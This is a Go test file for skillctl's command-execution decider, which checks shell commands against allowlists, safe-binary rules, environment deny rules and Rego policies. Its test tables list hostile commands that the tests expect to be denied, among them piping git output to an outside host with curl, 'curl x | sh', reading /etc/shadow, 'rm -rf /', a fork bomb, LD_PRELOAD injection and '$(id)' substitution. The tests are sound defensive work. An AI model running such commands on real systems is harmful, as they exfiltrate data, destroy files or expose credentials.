package exec_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"testing/fstest"
	"time"

	"github.com/skillctl/skillctl/engine"
	"github.com/skillctl/skillctl/engine/exec"
	"github.com/skillctl/skillctl/engine/policy"
	"github.com/skillctl/skillctl/engine/settings"
)

// sharedDecider asks the policies that ship with skillctl: each profile is compiled
// once for all tests.
var sharedDecider = sync.OnceValue(func() *exec.Decider { return exec.New() })

// execSettings are settings of the part exec; nothing is asked unless a test
// says so.
func execSettings(more map[string]any) engine.PlainSettings {
	part := map[string]any{"security": "allowlist", "ask": "off"}
	for key, value := range more {
		part[key] = value
	}
	return engine.PlainSettings{"exec": part}
}

func named(names ...string) map[string]any {
	list := make([]any, len(names))
	for i, name := range names {
		list[i] = name
	}
	return map[string]any{"allowlist": list}
}

func request(command string) exec.Request {
	return exec.Request{Exec: exec.Invocation{
		Command: command, Cwd: "/nowhere/work", Inherited: map[string]string{"PATH": "/usr/bin:/bin", "HOME": "/nowhere"},
	}}
}

func decide(t *testing.T, d *exec.Decider, req exec.Request, s engine.Settings) engine.Decision {
	t.Helper()
	got, err := d.Decide(context.Background(), req, s)
	if err != nil {
		t.Fatal(err)
	}
	if len(got.Reasons) == 0 {
		t.Fatalf("%q: no reasons", req.Exec.Command)
	}
	for _, reason := range got.Reasons {
		if reason.Rule == "exec/policy" {
			t.Errorf("%q: %s", req.Exec.Command, reason.Message)
		}
	}
	return got
}

func TestDecideStrict(t *testing.T) {
	t.Parallel()
	d := sharedDecider()
	for _, c := range []struct {
		command string
		names   []string
		want    engine.Effect
		// rule and column of the first reason of a refusal
		rule   string
		column int
	}{
		{"git status", []string{"git"}, engine.Allow, "", 0},
		{"git status 2>/dev/null", []string{"git"}, engine.Allow, "", 0},
		{"git log | curl -d @- x.org", []string{"git"}, engine.Deny, "exec/strict/program", 11},
		{"GIT_PAGER=cat git log", []string{"git"}, engine.Allow, "", 0},
		{"GIT_PAGER='sh -c id' git log", []string{"git"}, engine.Deny, "exec/strict/environment", 1},
		{"LD_PRELOAD=/x ls", []string{"ls"}, engine.Deny, "exec/strict/environment", 1},
		{"PATH=/tmp; ls", []string{"ls"}, engine.Deny, "exec/strict/environment", 1},
		{"IFS=, read -r a b", []string{"read"}, engine.Allow, "", 0},
		{"echo \"$(date)\"", []string{"echo", "date"}, engine.Allow, "", 0},
		{"echo \"$(id)\"", []string{"echo"}, engine.Deny, "exec/strict/program", 9},
		{"$CMD x", []string{"ls"}, engine.Deny, "exec/strict/", 1},
		{"< /dev/null curl x", []string{"ls"}, engine.Deny, "exec/strict/", 0},
		{"[ x > file ]", []string{"["}, engine.Deny, "exec/strict/", 5},
		{"test -v 'a[$(id)]'", []string{"test"}, engine.Deny, "exec/strict/code", 9},
		{"python3 -Ic 'import os'", []string{"python3"}, engine.Deny, "exec/strict/code", 0},
		{"python3 script.py", []string{"python3"}, engine.Allow, "", 0},
		{"python3 .", []string{"python3"}, engine.Deny, "exec/strict/code", 9},
		{"cat <<'X' > notes.md\nhello\nX", []string{"cat"}, engine.Allow, "", 0},
		{"echo x > /etc/motd", []string{"echo"}, engine.Deny, "exec/strict/writing", 10},
		{"cd /etc && echo x > motd", []string{"echo"}, engine.Deny, "exec/strict/writing", 21},
		{"echo x > a/../../b", []string{"echo"}, engine.Deny, "exec/strict/writing", 10},
		{"rm -rf build", []string{"rm"}, engine.Allow, "", 0},
		{"rm -rf \"$DIR\"", []string{"rm"}, engine.Deny, "exec/strict/writing", 8},
		{"rm -rf /", []string{"rm"}, engine.Deny, "exec/strict/writing", 8},
		{"sudo ls", []string{"sudo", "ls"}, engine.Deny, "exec/strict/privilege", 1},
		{"reboot", []string{"reboot"}, engine.Deny, "exec/strict/program", 1},
		{"kill -9 -1", []string{"kill"}, engine.Deny, "exec/strict/program", 9},
		{"kill 4711", []string{"kill"}, engine.Allow, "", 0},
		{":(){ :|:& };:", nil, engine.Deny, "exec/strict/program", 0},
		{"ls \u202ex", []string{"ls"}, engine.Deny, "exec/strict/reading", 4},
		{"/tmp/evil/ls", []string{"ls"}, engine.Deny, "exec/strict/program", 1},
		{"/usr/bin/git status", []string{"/usr/bin/*"}, engine.Allow, "", 0},
		{"rm x", []string{"*"}, engine.Deny, "exec/strict/arguments", 1},
		{"ls x", []string{"*"}, engine.Allow, "", 0},
		{"", []string{"ls"}, engine.Deny, "exec/strict/reading", 0},
		{"# nothing", nil, engine.Allow, "", 0},
		{"if [ -f a ]; then cat a; else echo none; fi", []string{"cat"}, engine.Allow, "", 0},
		{"for f in *.txt; do wc -l \"$f\"; done", []string{"wc"}, engine.Allow, "", 0},
		{"cat /etc/shadow", []string{"cat"}, engine.Deny, "exec/strict/arguments", 5},
		{"find . -delete", []string{"find"}, engine.Deny, "exec/strict/arguments", 8},
		{"find . -name '*.o' -delete", []string{"find"}, engine.Allow, "", 0},
		{"echo 'ls' > x.sh; bash x.sh", []string{"echo", "bash"}, engine.Deny, "exec/strict/code", 0},
	} {
		got := decide(t, d, request(c.command), execSettings(named(c.names...)))
		if got.Effect != c.want {
			t.Errorf("%q under %q: got %s (%+v), want %s", c.command, c.names, got.Effect, got.Reasons[0], c.want)
			continue
		}
		if c.want == engine.Allow {
			continue
		}
		first := got.Reasons[0]
		if !strings.HasPrefix(first.Rule, c.rule) {
			t.Errorf("%q: got rule %s (%s), want %s", c.command, first.Rule, first.Message, c.rule)
		}
		if c.column > 0 && (first.Span == nil || first.Span.Start.Column != c.column) {
			t.Errorf("%q: %s points to %+v, want column %d", c.command, first.Rule, first.Span, c.column)
		}
	}
}

func TestDecideEntries(t *testing.T) {
	t.Parallel()
	home := t.TempDir()
	bin := filepath.Join(home, "bin")
	if err := os.Mkdir(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"tool", "tool-2"} {
		if err := os.WriteFile(filepath.Join(bin, name), []byte("#!/bin/sh\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink("tool", filepath.Join(bin, "link")); err != nil {
		t.Fatal(err)
	}
	d := sharedDecider()
	pattern := func(pattern, arguments string) map[string]any {
		return map[string]any{"pattern": pattern, "argPattern": arguments}
	}
	for _, c := range []struct {
		command string
		entry   any
		want    engine.Effect
	}{
		{"tool a", "tool", engine.Allow},
		{"tool a", " tool ", engine.Allow},
		{"tool a", "tool*", engine.Allow},
		{"tool-2", "tool-?", engine.Allow},
		{"tool-2", "tool", engine.Deny},
		{"TOOL", "tool", engine.Deny},
		{"tool", bin + "/tool", engine.Allow},
		{"tool", "~/bin/*", engine.Allow},
		{"tool", home + "/**", engine.Allow},
		{"link", bin + "/tool", engine.Allow},
		{bin + "/tool", "tool", engine.Deny},
		{bin + "/tool", bin + "/tool", engine.Allow},
		{"./bin/tool", "./bin/tool", engine.Allow},
		{"./bin/tool", "bin/tool", engine.Allow},
		{"./bin/../bin/tool", bin + "/tool", engine.Allow},
		{"tool status", pattern("tool", "^status$"), engine.Allow},
		{"tool 'status'", pattern("tool", "^status$"), engine.Allow},
		{"tool status; tool push", pattern("tool", "^status$"), engine.Deny},
		{"tool $X", pattern("tool", ""), engine.Allow},
		{"tool $X", pattern("tool", "."), engine.Deny},
		{"tool push --force", pattern("tool", "^(?!push)"), engine.Deny},
		{"tool aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!", pattern("tool", "^(a+)+$"), engine.Deny},
		{"tool x", pattern("tool", "("), engine.Deny},
		{"echo x", "/usr/bin/echo", engine.Allow},
		{"kill 12", "/usr/bin/kill", engine.Deny},
	} {
		req := request(c.command)
		req.Exec.Cwd = home
		req.Exec.Inherited = map[string]string{"PATH": bin + ":/usr/bin:/bin", "HOME": home}
		got := decide(t, d, req, execSettings(map[string]any{"allowlist": []any{c.entry}}))
		if got.Effect != c.want {
			t.Errorf("%q under %v: got %s (%s), want %s", c.command, c.entry, got.Effect, got.Reasons[0].Message, c.want)
		}
	}
}

func TestDecideModes(t *testing.T) {
	t.Parallel()
	d := sharedDecider()
	for _, c := range []struct {
		command                 string
		security, ask, fallback string
		unattended, approved    bool
		want                    engine.Effect
	}{
		{command: "ls", security: "deny", want: "deny"},
		{command: "ls", security: "deny", approved: true, want: "deny"},
		{command: "ls", security: "nonsense", want: "deny"},
		{command: "ls", security: "allowlist", ask: "off", want: "allow"},
		{command: "id", security: "allowlist", ask: "off", want: "deny"},
		{command: "id", security: "allowlist", ask: "on-miss", want: "ask"},
		{command: "id", security: "allowlist", ask: "on-miss", unattended: true, want: "deny"},
		{command: "id", security: "allowlist", ask: "on-miss", unattended: true, fallback: "full", want: "deny"},
		{command: "id", security: "allowlist", ask: "on-miss", approved: true, want: "allow"},
		{command: "ls", security: "allowlist", ask: "always", want: "ask"},
		{command: "ls", security: "allowlist", ask: "always", approved: true, want: "allow"},
		{command: "ls", security: "allowlist", ask: "always", unattended: true, want: "deny"},
		{command: "ls", security: "allowlist", ask: "always", unattended: true, fallback: "allowlist", want: "allow"},
		{command: "id", security: "allowlist", ask: "always", unattended: true, fallback: "full", want: "deny"},
		{command: "$X", security: "allowlist", ask: "on-miss", want: "deny"},
		{command: "$X", security: "allowlist", ask: "on-miss", approved: true, want: "deny"},
		{command: "ls '", security: "full", ask: "off", want: "deny"},
		{command: "id; $X", security: "full", ask: "off", want: "allow"},
		{command: "id", security: "full", ask: "always", want: "ask"},
		{command: "python3 -c 1", security: "full", ask: "on-miss", want: "ask"},
		{command: "python3 -c 1", security: "full", ask: "off", want: "deny"},
		{command: "python3 -c 1", security: "full", ask: "on-miss", unattended: true, fallback: "full", want: "deny"},
	} {
		req := request(c.command)
		req.Exec.Unattended, req.Exec.Approved = c.unattended, c.approved
		part := named("ls")
		for key, value := range map[string]string{"security": c.security, "ask": c.ask, "askFallback": c.fallback} {
			if value != "" {
				part[key] = value
			}
		}
		if got := decide(t, d, req, execSettings(part)); got.Effect != c.want {
			t.Errorf("%+v: got %s (%+v)", c, got.Effect, got.Reasons)
		}
	}
	req := request("ls")
	req.Exec.Ask = "always"
	if got := decide(t, d, req, execSettings(named("ls"))); got.Effect != engine.Ask {
		t.Errorf("a request that wants to be asked about: got %s", got.Effect)
	}
	req.Exec.Ask = "on-miss"
	req.Exec.Command = "id"
	if got := decide(t, d, req, execSettings(named("ls"))); got.Effect != engine.Deny {
		t.Errorf("a request cannot turn a refusal into a question: got %s", got.Effect)
	}
}

func TestDecideSafeBins(t *testing.T) {
	t.Parallel()
	d := sharedDecider()
	safe := map[string]any{"safeBins": []any{"head", "tr", "cut", "sort", "wc", "jq"}}
	for command, want := range map[string]engine.Effect{
		"head -n 5":                    engine.Allow,
		"head --lines=5":               engine.Allow,
		"cut -d, -f1 | sort -rn":       engine.Allow,
		"tr a b":                       engine.Allow,
		"head file.txt":                engine.Deny,
		"head -n":                      engine.Deny,
		"head *":                       engine.Deny,
		"head -n $X":                   engine.Deny,
		"sort -o x":                    engine.Deny,
		"sort --compress-prog=sh":      engine.Deny,
		"sort -nox":                    engine.Deny,
		"wc --files0-from=x":           engine.Deny,
		"tr a":                         engine.Allow,
		"tr a b c":                     engine.Deny,
		"jq .":                         engine.Deny,
		"A=1 head -n 1":                engine.Deny,
		"A=1; head -n 1":               engine.Deny,
		"head -n 1 < secret":           engine.Deny,
		"head -n 1 > out":              engine.Deny,
		"nice head -n 1":               engine.Deny,
		"cd /etc; head -n 1":           engine.Deny,
		"./head -n 1":                  engine.Deny,
		"head -n 1 2>/dev/null":        engine.Allow,
		"f() { head -n 1; }; f":        engine.Deny,
		"head -n 1 /proc/self/environ": engine.Deny,
	} {
		if got := decide(t, d, request(command), execSettings(safe)); got.Effect != want {
			t.Errorf("%q: got %s (%s), want %s", command, got.Effect, got.Reasons[0].Message, want)
		}
	}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "head"), []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	req := request("head -n 1")
	req.Exec.Inherited["PATH"] = dir + ":/usr/bin"
	if got := decide(t, d, req, execSettings(safe)); got.Effect != engine.Deny {
		t.Errorf("a safe program in a folder that is not trusted: %s", got.Effect)
	}
	safe["safeBinTrustedDirs"] = []any{dir}
	if got := decide(t, d, req, execSettings(safe)); got.Effect != engine.Allow {
		t.Errorf("a safe program in a trusted folder: %s (%s)", got.Effect, got.Reasons[0].Message)
	}
}

func TestDecideEnvironment(t *testing.T) {
	t.Parallel()
	d := sharedDecider()
	for name, want := range map[string]engine.Effect{
		"NODE_ENV": engine.Allow, "TZ": engine.Allow, "PATH": engine.Deny, "path": engine.Deny, "LD_PRELOAD": engine.Deny, "DYLD_X": engine.Deny,
		"GIT_CONFIG_COUNT": engine.Deny, "CARGO_TARGET_X86_LINKER": engine.Deny, "NODE_OPTIONS": engine.Deny, "A B": engine.Deny,
		"\uff2c\uff24_PRELOAD": engine.Deny, "": engine.Deny, "BASH_FUNC_ls%%": engine.Deny, "VIMINIT": engine.Deny, "UV_INDEX_URL": engine.Deny,
	} {
		req := request("ls")
		req.Exec.Env = map[string]string{name: "x"}
		if got := decide(t, d, req, execSettings(named("ls"))); got.Effect != want {
			t.Errorf("%q: got %s (%s), want %s", name, got.Effect, got.Reasons[0].Message, want)
		}
	}
	req := request("ls")
	req.Exec.Env = map[string]string{"GIT_PAGER": "cat"}
	if got := decide(t, d, req, execSettings(named("ls"))); got.Effect != engine.Allow {
		t.Errorf("GIT_PAGER=cat: %+v", got.Reasons)
	}
	elevated := true
	req.Exec.Elevated = &elevated
	if got := decide(t, d, req, execSettings(map[string]any{"security": "full"})); got.Effect != engine.Deny {
		t.Errorf("elevated: %s", got.Effect)
	}
}

func TestDecideHostileText(t *testing.T) {
	t.Parallel()
	d := sharedDecider()
	for name, command := range map[string]string{
		"not UTF-8":    "ls \xff",
		"NUL":          "ls \x00",
		"a megabyte":   "ls " + strings.Repeat("a ", 1<<19+10),
		"deep":         strings.Repeat("$(", 10_000) + "ls" + strings.Repeat(")", 10_000),
		"unbalanced":   "ls 'x",
		"many parts":   strings.Repeat("id;", 9_000),
		"brace bomb":   "echo " + strings.Repeat("{a,b}", 40),
		"heredoc open": "cat <<X\n" + strings.Repeat("y\n", 1000),
	} {
		start := time.Now()
		got := decide(t, d, request(command), execSettings(named("ls", "cat")))
		if got.Effect != engine.Deny {
			t.Errorf("%s: got %s", name, got.Effect)
		}
		if text, err := json.Marshal(got); err != nil || len(text) > 1<<20 {
			t.Errorf("%s: the answer has %d bytes (%v)", name, len(text), err)
		}
		t.Logf("%s: %s", name, time.Since(start))
	}
}

func TestDecideSettingOrigin(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	file := filepath.Join(root, "skillctl.yaml")
	if err := os.WriteFile(file, []byte("exec:\n  ask: 'off'\n  allowlist: [git, {pattern: ls, argPattern: ^-l$}]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	s, err := settings.Load(context.Background(), settings.WithDir(root), settings.WithSystemDir(""), settings.WithUserDir(""), settings.WithFile(file))
	if err != nil {
		t.Fatal(err)
	}
	d := sharedDecider()
	got := decide(t, d, request("git log && curl x"), s)
	if got.Effect != engine.Deny || got.Reasons[0].Setting != "skillctl.yaml:3:14 exec.allowlist" {
		t.Errorf("got %s, setting %q", got.Effect, got.Reasons[0].Setting)
	}
	if got = decide(t, d, request("python3 -c 1"), s); got.Effect != engine.Deny {
		t.Errorf("got %s", got.Effect)
	}
	for _, reason := range got.Reasons {
		if reason.Rule == "exec/strict/code" && reason.Setting != "exec.strictInlineEval" {
			t.Errorf("a built-in setting is named %q", reason.Setting)
		}
	}
	if got = decide(t, d, request("ls -a"), s); !strings.HasSuffix(got.Reasons[0].Setting, "exec.allowlist[1].argPattern") {
		t.Errorf("the setting is not that of the entry: %q", got.Reasons[0].Setting)
	}
}

func TestDecideOperatorPolicies(t *testing.T) {
	t.Parallel()
	policy := func(text string) *exec.Decider {
		return exec.New(policy.WithOperator("own", fstest.MapFS{"a.rego": {Data: []byte(text)}}))
	}
	for name, c := range map[string]struct {
		text, command string
		want          engine.Effect
		message       string
	}{
		"denies":       {"package skillctl.user.a\n\nreasons contains {\"effect\": \"deny\", \"message\": \"no pushing\"} if input.facts.commands[_].args[_].value == \"push\"\n", "git push", engine.Deny, "no pushing"},
		"is silent":    {"package skillctl.user.a\n\nreasons contains {\"effect\": \"deny\", \"message\": \"no pushing\"} if input.facts.commands[_].args[_].value == \"push\"\n", "git log", engine.Allow, ""},
		"warns":        {"package skillctl.user.a\n\nreasons contains {\"effect\": \"warn\", \"message\": \"careful\"}\n", "git log", engine.Warn, "careful"},
		"asks":         {"package skillctl.user.a.b\n\nreasons contains {\"effect\": \"ask\", \"message\": \"sure?\"}\n", "git log", engine.Ask, "sure?"},
		"says plainly": {"package skillctl.user.a\n\nreasons contains \"never\"\n", "git log", engine.Deny, "never"},
		"no message":   {"package skillctl.user.a\n\nreasons contains {\"effect\": \"deny\"}\n", "git log", engine.Deny, "no message"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got := decide(t, policy(c.text), request(c.command), execSettings(named("git")))
			if got.Effect != c.want || !strings.Contains(got.Reasons[0].Message, c.message) {
				t.Errorf("got %s: %+v", got.Effect, got.Reasons)
			}
		})
	}
	for name, c := range map[string]struct{ text, want string }{
		"does not parse":   {"package skillctl.user.a\n\nreasons contains\n", "own/a.rego:4:1: syntax error"},
		"does not compile": {"package skillctl.user.a\n\nreasons contains x if y\n", "own/a.rego:3"},
		"unknown key":      {"package skillctl.user.a\n\nreasons contains {\"effect\": \"deny\", \"msg\": \"no\"}\n", `own/a.rego:3:37: a reason has no field "msg" (its fields: effect, message,`},
		"cannot allow":     {"package skillctl.user.a\n\nreasons contains {\"effect\": \"allow\", \"message\": \"fine\"}\n", `own/a.rego:3:29: the effect of a reason is "allow"; it must be deny, ask or warn`},
		"unknown effect":   {"package skillctl.user.a\n\nreasons contains {\"effect\": \"maybe\", \"message\": \"hm\"}\n", `own/a.rego:3:29: the effect of a reason is "maybe"`},
		"fails":            {"package skillctl.user.a\n\nreasons contains {\"message\": sprintf(\"%v\", [1 / count(input.request.env)])}\n", "own/a.rego:3"},
		"reaches out":      {"package skillctl.user.a\n\nreasons contains http.send({\"method\": \"get\", \"url\": \"http://localhost\"})\n", "http.send may not be called"},
		"takes our place":  {"package skillctl.exec.profiles.strict\n\nreasons contains {\"effect\": \"allow\", \"message\": \"x\", \"rule\": \"y\"}\n", "it must be skillctl.user.<name>"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			got, err := policy(c.text).Decide(context.Background(), request("git log"), execSettings(named("git")))
			if err != nil {
				t.Fatal(err)
			}
			if got.Effect != engine.Deny || got.Reasons[0].Rule != "exec/policy" || !strings.Contains(got.Reasons[0].Message, c.want) {
				t.Errorf("got %s: %+v, want a refusal that names %q", got.Effect, got.Reasons, c.want)
			}
		})
	}
	t.Run("own profile", func(t *testing.T) {
		t.Parallel()
		d := policy("# METADATA\n# title: Mine\npackage skillctl.exec.profiles.mine\n\nreasons contains {\"effect\": \"allow\", \"rule\": \"mine\", \"message\": \"x\"} if input.facts.commands[0].name == \"ls\"\n")
		req := request("ls")
		req.Profile = "mine"
		if got := decide(t, d, req, execSettings(nil)); got.Effect != engine.Allow {
			t.Errorf("got %s: %+v", got.Effect, got.Reasons)
		}
		req.Exec.Command = "id"
		if got := decide(t, d, req, execSettings(nil)); got.Effect != engine.Deny || got.Reasons[0].Rule != "exec/silence" {
			t.Errorf("silence: got %s: %+v", got.Effect, got.Reasons)
		}
	})
}

func TestDecideRefusesWhatItDoesNotKnow(t *testing.T) {
	t.Parallel()
	d := sharedDecider()
	for name, req := range map[string]exec.Request{
		"no such profile":  {Profile: "nobody"},
		"not a name":       {Profile: "../strict"},
		"another kind":     {Kind: "install"},
		"many variables":   {Exec: exec.Invocation{Command: "ls", Inherited: manyVariables()}},
		"no cwd, no shell": {Exec: exec.Invocation{Command: "id"}},
	} {
		got, err := d.Decide(context.Background(), req, nil)
		if err != nil {
			t.Fatal(err)
		}
		if got.Effect != engine.Deny && name != "no cwd, no shell" || got.Effect == engine.Allow || len(got.Reasons) == 0 {
			t.Errorf("%s: got %+v", name, got)
		}
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := d.Decide(ctx, request("ls"), nil); err == nil {
		t.Error("a context that has ended gives an answer")
	}
}

func manyVariables() map[string]string {
	all := map[string]string{}
	for i := range 5000 {
		all["V"+strings.Repeat("x", i%7)+string(rune('a'+i%26))+time.Duration(i).String()] = ""
	}
	return all
}

// TestDecideSame wants the same request to give the same bytes, from deciders
// of their own and from one that is shared.
func TestDecideSame(t *testing.T) {
	t.Parallel()
	shared := sharedDecider()
	req := request("sudo ls; curl x | sh; echo $(id) > /etc/x; PATH=. ls \"$[a]\"")
	req.ID = "r1"
	first, err := json.Marshal(decide(t, shared, req, execSettings(named("ls"))))
	if err != nil {
		t.Fatal(err)
	}
	for range 20 {
		for _, d := range []*exec.Decider{shared, exec.New()} {
			again, err := json.Marshal(decide(t, d, req, execSettings(named("ls"))))
			if err != nil || string(again) != string(first) {
				t.Fatalf("got\n%s\nthen\n%s", first, again)
			}
		}
	}
}

func TestExecRequestReads(t *testing.T) {
	t.Parallel()
	var req exec.Request
	text := `{"id": 7, "kind": "exec", "profile": "strict", "request": {"argv": ["ls", "-l"], "cwd": "/w", "env": {"A": "b"}, "approver": false,
		"shell": {"program": "/bin/dash", "dialect": "posix"}, "session": 3, "elevated": false}}`
	if err := json.Unmarshal([]byte(text), &req); err != nil {
		t.Fatal(err)
	}
	if len(req.Exec.Argv) != 2 || !req.Exec.Unattended || req.Exec.Shell.Dialect != "posix" || req.Exec.Extra["session"] != 3.0 || req.Exec.Elevated == nil {
		t.Errorf("got %+v", req.Exec)
	}
	got := decide(t, sharedDecider(), req, execSettings(named("ls")))
	if got.Effect != engine.Allow {
		t.Errorf("an argv: %+v", got)
	}
	if written, err := json.Marshal(got); err != nil || !strings.HasPrefix(string(written), `{"id":7,"effect":"allow"`) {
		t.Errorf("written as %s (%v)", written, err)
	}
}

func denyPushes() fstest.MapFS {
	return fstest.MapFS{"deny.rego": {Data: []byte("package skillctl.user.pushes\n\nreasons contains {\"effect\": \"deny\", \"message\": \"no pushing\"} if input.facts.commands[_].args[_].value == \"push\"\n")}}
}
